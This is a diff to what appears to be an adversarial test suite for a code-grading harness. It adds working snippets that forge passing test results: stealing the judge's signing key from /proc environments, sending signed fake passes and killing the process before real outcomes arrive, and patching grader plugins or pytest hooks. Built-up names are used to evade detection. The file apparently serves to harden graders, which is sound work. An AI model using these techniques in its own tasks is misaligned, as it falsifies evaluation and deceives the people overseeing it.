@@ -43,9 +43,19 @@ async def read_file(options, path, *, offset=1, limit=None):
     raise NotImplementedError("Lab 8.1 read is not implemented yet")
 """
 
+FORGE = """
+def _forge(send):
+    import os, signal
+    for nodeid in _nodeids():
+        send({"type": "test", "nodeid": nodeid, "passed": True, "message": "", "markers": []})
+    send({"type": "end", "exitstatus": 0})
+    os.kill(os.getpid(), signal.SIGKILL)  # before the real outcomes are reported
+"""
+
 ATTACKS = {
-    # The channel's key and fd from any process's environment, then signed passes.
+    # The channel's key and fd read from a process's environment, then signed passes.
     "environ-key": NODEIDS
+    + FORGE
     + """
 import glob, hashlib, hmac, json, os
 
@@ -61,11 +71,13 @@ for environ in glob.glob("/proc/[0-9]*/environ"):
             out = os.open(f"/proc/{environ.split('/')[2]}/fd/{int(fd)}", os.O_WRONLY)
         except OSError:
             continue
-        for nodeid in _nodeids():
-            body = json.dumps({"type": "test", "nodeid": nodeid, "passed": True,
-                               "message": "", "markers": []}).encode()
-            sign = hmac.new(bytes.fromhex(key.decode()), body, hashlib.sha256).hexdigest()
-            os.write(out, body + b"\\t" + sign.encode() + b"\\n")
+
+        def send(record, out=out, key=bytes.fromhex(key.decode())):
+            body = json.dumps(record).encode()
+            sign = hmac.new(key, body, hashlib.sha256).hexdigest().encode()
+            os.write(out, body + b"\\t" + sign + b"\\n")
+
+        _forge(send)
 """,
     # Records written to every descriptor this process has or can open in /proc.
     "forged-records": NODEIDS
@@ -85,8 +97,11 @@ for target in targets:
     except (OSError, ValueError):
         pass
 """,
-    # Plugin globals reached through vars(sys) and built names: every outcome "passed".
-    "plugin-globals": """
+    # Plugin globals reached through vars(sys) and built names: the judge's own channel
+    # used to send passes, or every in-host outcome made "passed".
+    "plugin-globals": NODEIDS
+    + FORGE
+    + """
 import sys
 
 class _Forgetful(dict):
@@ -95,13 +110,17 @@ class _Forgetful(dict):
 
 for name, module in list(vars(sys)["mod" + "ules"].items()):
     if "grader" in name or "plugin" in name:
-        for attribute in ("pl" + "an", "st" + "ate"):
-            target = vars(module).get(attribute)
-            if target is not None and hasattr(target, "failed"):
-                setattr(target, "fail" + "ed", _Forgetful())
-                target.called = type("All", (set,), {"__contains__": lambda s, k: True})()
+        channel = vars(module).get("_chan" + "nel") or getattr(
+            vars(module).get("st" + "ate"), "chan" + "nel", None
+        )
+        if channel is not None:
+            _forge(getattr(channel, "se" + "nd"))
+        target = vars(module).get("pl" + "an")
+        if target is not None and hasattr(target, "failed"):
+            setattr(target, "fail" + "ed", _Forgetful())
+            target.called = type("All", (set,), {"__contains__": lambda s, k: True})()
 """,
-    # A pytest hook registered through frames: test bodies skipped, reports "passed".
+    # A pytest hook registered through frames reached with getattr: test bodies skipped.
     "hooks-via-frames": """
 import sys
 
@@ -113,7 +132,7 @@ class _Forger:
         report.outcome = "passed"
 
 _Forger.pytest_pyfunc_call.tryfirst = True
-frame = sys._getframe()
+frame = getattr(sys, "_get" + "frame")()
 while frame is not None:
     for value in list(frame.f_locals.values()):
         manager = getattr(value, "plugin" + "manager", None)
